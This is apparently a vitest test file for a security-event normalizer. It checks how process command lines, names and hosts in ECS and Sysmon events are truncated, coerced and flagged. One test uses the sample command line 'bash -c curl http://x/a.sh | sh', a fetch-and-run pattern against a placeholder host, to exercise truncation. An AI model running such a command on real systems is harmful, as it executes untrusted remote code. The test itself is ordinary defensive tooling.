import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { sysmonEvtx, sysmonFlat, sysmonWinlogbeat } from "./__fixtures__/web-shell-activity";
import { getField } from "./fields";
import { MAX_LONG_TEXT_CHARS, MAX_NAME_CHARS } from "./limit-fields";
import { normalizeEvent } from "./normalize";
import type { EcsEvent, EventObject } from "./types";

/** Fixed so CI is repeatable; FC_SEED=<n> explores elsewhere (fast-check prints a failure's seed). */
const seed = Number(process.env.FC_SEED ?? 20261123);
const receivedAt = new Date("2026-11-23T08:00:00.000Z");

function ok(input: unknown): { event: EcsEvent; warnings: string[] } {
  const result = normalizeEvent(deepFreeze(structuredClone(input)), { receivedAt });
  if (!result.ok) throw new Error(`expected ok, got ${result.code}: ${result.error}`);
  const again = normalizeEvent(result.event, { receivedAt });
  // Idempotent even when something was cut: the cut value is within its limit the second time.
  expect(again.ok && again.event).toStrictEqual(result.event);
  return result;
}

/** A frozen input makes any mutation by the normalizer throw (and so fail the test). */
function deepFreeze<T>(value: T): T {
  if (typeof value === "object" && value !== null) {
    for (const v of Object.values(value)) deepFreeze(v);
    Object.freeze(value);
  }
  return value;
}

const ecs = (process: EventObject, extra: EventObject = {}): EventObject => ({
  "@timestamp": "2026-11-09T10:15:02.123Z",
  event: { kind: "event", category: ["process"], type: ["start"] },
  host: { name: "web01", os: { type: "linux" } },
  process,
  ...extra,
});

describe("limitFields through normalizeEvent", () => {
  it("keeps the first 32,768 characters of a 200 KB command line, lists it in vigil.truncated and warns", () => {
    const head = "bash -c 'curl http://x/a.sh | sh' ";
    const commandLine = head + "A".repeat(200_000);
    const { event, warnings } = ok(ecs({ executable: "/usr/bin/bash", command_line: commandLine }));
    const kept = getField(event, "process.command_line") as string;
    expect(kept).toHaveLength(MAX_LONG_TEXT_CHARS);
    expect(commandLine.startsWith(kept)).toBe(true);
    expect(getField(event, "vigil.truncated")).toEqual(["process.command_line"]);
    expect(warnings).toEqual([`process.command_line is ${commandLine.length} characters long; only the first 32768 are kept (vigil.truncated)`]);
    // Derived from the kept text: args never hold more than the event shows.
    const args = getField(event, "process.args") as string[];
    expect(args.slice(0, 3)).toEqual(["bash", "-c", "curl http://x/a.sh | sh"]);
    expect(args.join(" ").length).toBeLessThanOrEqual(MAX_LONG_TEXT_CHARS);
  });

  it("leaves a value at exactly the limit alone and does not mark the event", () => {
    const { event, warnings } = ok(ecs({ command_line: "x".repeat(MAX_LONG_TEXT_CHARS), name: "n".repeat(MAX_NAME_CHARS) }));
    expect(getField(event, "process.command_line")).toHaveLength(MAX_LONG_TEXT_CHARS);
    expect(getField(event, "vigil.truncated")).toBeUndefined();
    expect(warnings).toEqual([]);
  });

  it.each([
    ["Sysmon flat", { ...sysmonFlat, CommandLine: "cmd.exe /c " + "x".repeat(100_000) }],
    ["evtx JSON", { Event: { ...sysmonEvtx.Event, EventData: { ...sysmonEvtx.Event.EventData, CommandLine: "cmd.exe /c " + "x".repeat(100_000) } } }],
    ["winlogbeat", { ...sysmonWinlogbeat, winlog: { ...sysmonWinlogbeat.winlog, event_data: { ...sysmonWinlogbeat.winlog.event_data, CommandLine: "cmd.exe /c " + "x".repeat(100_000) } } }],
  ])("cuts a Windows event's mapped command line (%s) and keeps the original whole in winlog.event_data", (_format, input) => {
    const { event } = ok(input);
    expect(getField(event, "process.command_line")).toHaveLength(MAX_LONG_TEXT_CHARS);
    expect(getField(event, "winlog.event_data.CommandLine")).toHaveLength(100_011);
    expect(getField(event, "vigil.truncated")).toEqual(["process.command_line"]);
    expect(getField(event, "process.name")).toBe("cmd.exe");
  });

  it("cuts names at 512 characters: host, user, domain, process and parent names", () => {
    const long = "n".repeat(600);
    const { event } = ok(ecs({ name: long, parent: { name: long } }, { host: { name: long }, user: { name: long, domain: long } }));
    for (const path of ["process.name", "process.parent.name", "host.name", "user.name", "user.domain"]) {
      expect(getField(event, path), path).toHaveLength(MAX_NAME_CHARS);
    }
    expect(getField(event, "vigil.truncated")).toEqual(["process.name", "process.parent.name", "host.name", "user.name", "user.domain"]);
  });

  it("finds a field where the field getter does: under a dotted key where the path's objects stop", () => {
    const long = "n".repeat(600);
    const { event } = ok(ecs({ executable: "/usr/bin/id", "parent.name": long }));
    expect((event["process"] as EventObject)["parent.name"]).toHaveLength(MAX_NAME_CHARS);
    expect(getField(event, "process.parent.name")).toHaveLength(MAX_NAME_CHARS);
    expect(getField(event, "vigil.truncated")).toEqual(["process.parent.name"]);
  });

  it("bounds a name derived from an executable whose base name is longer than a name may be", () => {
    const { event } = ok(ecs({ executable: `/opt/${"x".repeat(1_000)}` }));
    expect(getField(event, "process.executable")).toHaveLength(1_005);
    expect(getField(event, "process.name")).toBe("x".repeat(MAX_NAME_CHARS));
    expect(getField(event, "vigil.truncated")).toEqual(["process.name"]);
  });

  it("never cuts a surrogate pair in half", () => {
    const commandLine = "x".repeat(MAX_LONG_TEXT_CHARS - 1) + "😀" + "tail";
    const { event } = ok(ecs({ command_line: commandLine }));
    expect(getField(event, "process.command_line")).toBe("x".repeat(MAX_LONG_TEXT_CHARS - 1));
  });

  it("cuts each string of an array on its own", () => {
    const { event } = ok(ecs({ executable: ["/bin/sh", "/" + "d".repeat(40_000)] }));
    const [first, second] = getField(event, "process.executable") as string[];
    expect(first).toBe("/bin/sh");
    expect(second).toHaveLength(MAX_LONG_TEXT_CHARS);
    expect(getField(event, "vigil.truncated")).toEqual(["process.executable"]);
  });

  it("turns numbers and booleans where text belongs into text, as the Windows mappings do", () => {
    const { event, warnings } = ok(ecs({ command_line: 123, executable: true }, { host: { name: 7 } }));
    expect(getField(event, "process.command_line")).toBe("123");
    expect(getField(event, "process.args")).toEqual(["123"]);
    expect(getField(event, "process.executable")).toBe("true");
    expect(getField(event, "host.name")).toBe("7");
    expect(warnings).toEqual([]);
  });

  it("drops an object where text belongs, with a warning, so the derived value takes its place", () => {
    const { event, warnings } = ok(ecs({ executable: "C:\\Windows\\System32\\cmd.exe", name: { evil: true } }, { host: { name: { a: 1 } } }));
    expect(getField(event, "process.name")).toBe("cmd.exe");
    expect(getField(event, "host.name")).toBeUndefined();
    expect(warnings).toEqual(['process.name is {"evil":true}, not text; dropped', 'host.name is {"a":1}, not text; dropped']);
  });

  it("drops a number JSON cannot keep (1e400 parses as Infinity)", () => {
    const { event, warnings } = ok(ecs({ command_line: JSON.parse("1e400") as number }));
    expect(getField(event, "process.command_line")).toBeUndefined();
    expect(warnings).toEqual(["process.command_line is Infinity, not text; dropped"]);
  });

  it("adds to the vigil.truncated an event already carries, once", () => {
    const first = ok(ecs({ command_line: "c".repeat(40_000) })).event;
    const withParent = structuredClone(first);
    (withParent["process"] as EventObject)["parent"] = { command_line: "p".repeat(40_000) };
    const { event } = ok(withParent);
    expect(getField(event, "vigil.truncated")).toEqual(["process.command_line", "process.parent.command_line"]);
  });

  it("bounds every limited field, cuts only at the limit and stays idempotent, for any lengths", () => {
    // Around each limit, in one- and two-unit characters (an "a" first shifts where pairs fall).
    const around = (max: number) =>
      fc.oneof(
        fc.integer({ min: max - 2, max: max + 2 }).map((n) => "é".repeat(n)),
        fc.tuple(fc.nat(1), fc.integer({ min: max / 2 - 2, max: max / 2 + 2 })).map(([a, n]) => "a".repeat(a) + "😀".repeat(n)),
      );
    const text = fc.oneof(fc.string({ unit: "grapheme", maxLength: 20 }), around(MAX_NAME_CHARS), around(MAX_LONG_TEXT_CHARS));
    const value = fc.oneof(text, fc.integer(), fc.boolean(), fc.constant(null), fc.array(text, { maxLength: 2 }), fc.dictionary(fc.string(), fc.string(), { maxKeys: 1 }));
    const limited = fc.record({ command_line: value, executable: value, name: value }, { requiredKeys: [] });
    const input = fc
      .tuple(limited, limited, value, value)
      .map(([process, parent, host, user]) => ecs({ ...process, parent }, { host: { name: host }, user: { name: user, domain: user } }));
    fc.assert(
      fc.property(input, (doc) => {
        const { event } = ok(doc);
        for (const [path, max] of [
          ["process.command_line", MAX_LONG_TEXT_CHARS],
          ["process.executable", MAX_LONG_TEXT_CHARS],
          ["process.name", MAX_NAME_CHARS],
          ["process.parent.command_line", MAX_LONG_TEXT_CHARS],
          ["host.name", MAX_NAME_CHARS],
          ["user.name", MAX_NAME_CHARS],
          ["user.domain", MAX_NAME_CHARS],
        ] as const) {
          const v = getField(event, path);
          for (const s of Array.isArray(v) ? v : [v]) {
            if (s === undefined || s === null) continue;
            expect(typeof s, path).toBe("string");
            expect((s as string).length, path).toBeLessThanOrEqual(max);
            // A cut never leaves a high surrogate dangling at the end.
            const last = (s as string).charCodeAt((s as string).length - 1);
            if ((s as string).length >= max - 1 && ((getField(event, "vigil.truncated") as string[] | undefined) ?? []).includes(path)) {
              expect(last >= 0xd800 && last <= 0xdbff, path).toBe(false);
            }
          }
        }
      }),
      { seed, numRuns: 300 },
    );
  });
});
